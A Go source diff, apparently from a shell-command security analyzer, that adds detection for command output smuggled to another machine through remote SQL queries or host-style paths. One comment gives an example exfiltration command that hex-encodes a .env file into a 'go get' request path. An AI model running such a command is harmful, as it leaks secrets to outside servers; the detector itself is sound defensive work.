@@ -75,6 +75,9 @@ func carried(text string, r *Result) {
 				continue
 			}
 			src, ok := carriedIn(inv.Args, j, vars, inv.Feed != nil)
+			if !ok && (remoteQuery(inv) || hostPathSubst(inv.Args[j])) && (strings.Contains(inv.Args[j], "$(") || strings.Contains(inv.Args[j], "`")) {
+				src, ok = "command output", true
+			}
 			if !ok {
 				continue
 			}
@@ -92,6 +95,33 @@ func carried(text string, r *Result) {
 			r.Effect.NetworkRead = r.Effect.NetworkRead || inv.Effect.NetworkRead
 		}
 	}
+}
+
+// remoteQuery reports whether a run reads from a database on another
+// machine (psql -h db.example -c "select …"): every word of its
+// statement reaches that machine, so one built from command output
+// carries it there (FINDINGS-5 L12).
+func remoteQuery(inv *Invocation) bool {
+	for _, r := range inv.Effect.Reasons {
+		if r.Rule == "sql.remote-read" {
+			return true
+		}
+	}
+	return false
+}
+
+// hostPathSubst reports whether a word is an address without a scheme
+// (192.0.2.2/x, example.com/mod) whose path holds a command substitution:
+// go get 192.0.2.2/$(xxd -p .env) asks that server for the path.
+func hostPathSubst(w string) bool {
+	w = strings.Trim(w, `"'`)
+	i := strings.IndexAny(w, "$`")
+	slash := strings.IndexByte(w, '/')
+	if i < 0 || slash <= 0 || slash > i {
+		return false
+	}
+	host := w[:slash]
+	return strings.Contains(host, ".") && !strings.ContainsAny(host, " =:@")
 }
 
 // carriedVars returns the variables the command fills at run time, each
